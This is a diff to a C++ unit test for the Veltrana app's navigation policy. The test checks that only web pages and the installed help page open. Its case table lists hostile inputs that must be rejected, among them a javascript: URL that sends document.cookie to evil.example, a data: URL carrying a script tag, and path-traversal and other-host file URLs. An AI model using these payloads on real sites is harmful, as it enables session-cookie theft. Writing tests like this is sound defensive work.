@@ -48,9 +48,42 @@ TEST(NavigationPolicy, WebPagesAndTheHandedOverLocalPageOnly) {
   }
   // Before any local page was handed over, no file opens.
   EXPECT_FALSE(isOpenableAddress(help, true, QUrl()));
-  // Only a local file named as the help page is taken for one.
-  EXPECT_TRUE(isHelpPageAddress(help));
-  for (const char* other : {"file:///home/u/.local/share/Veltrana/other.html",
-                            "file://otherhost/share/help.html", "http://m.example.org/help.html"})
-    EXPECT_FALSE(isHelpPageAddress(QUrl(other))) << other;
+}
+
+// What Veltrana hands over opens by the rule of a page's top frame, where the one local
+// file is the installation's own help page, named by its full path.
+TEST(NavigationPolicy, HandedAddressesOpenWebPagesAndTheInstallationsHelpPageOnly) {
+  const QStringList helpPages{"/usr/share/veltrana/help.html",
+                              "/home/u/.local/share/Veltrana/help.html"};
+  struct Case {
+    const char* address;
+    bool opens;
+  };
+  const Case cases[] = {
+      {"http://m.example.org/home.php", true},
+      {"https://m.example.org/login.php?auth_token=T", true},
+      {"about:blank", true},
+      {"file:///usr/share/veltrana/help.html", true},
+      {"file:///home/u/.local/share/Veltrana/help.html", true},
+      {"file:///home/u/.local/share/Veltrana/help.html#menu", true},
+      {"file:///home/u/.local/share/Veltrana/../Veltrana/help.html", true},
+      {"javascript:fetch('http://evil.example/'+document.cookie)", false},
+      {"view-source:http://m.example.org/home.php", false},
+      {"data:text/html,<script>alert(1)</script>", false},
+      {"blob:http://m.example.org/0b1c", false},
+      {"file:///tmp/x/help.html", false},
+      {"file:///media/card/Program Files/Veltrana/help.html", false},
+      {"file:///home/u/.local/share/Veltrana/help.html?x=1", false},
+      {"file:///home/u/.local/share/Veltrana/other.html", false},
+      {"file://otherhost/usr/share/veltrana/help.html", false},
+      {"about:settings", false},
+      {"vtxtest:payload", false},
+  };
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.address);
+    EXPECT_EQ(isHandedAddressOpenable(QUrl(c.address), helpPages), c.opens);
+  }
+  EXPECT_TRUE(isHelpPageAddress(QUrl("file:///usr/share/veltrana/help.html"), helpPages));
+  EXPECT_FALSE(isHelpPageAddress(QUrl("file:///tmp/x/help.html"), helpPages));
+  EXPECT_FALSE(isHelpPageAddress(QUrl("http://m.example.org/help.html"), helpPages));
 }
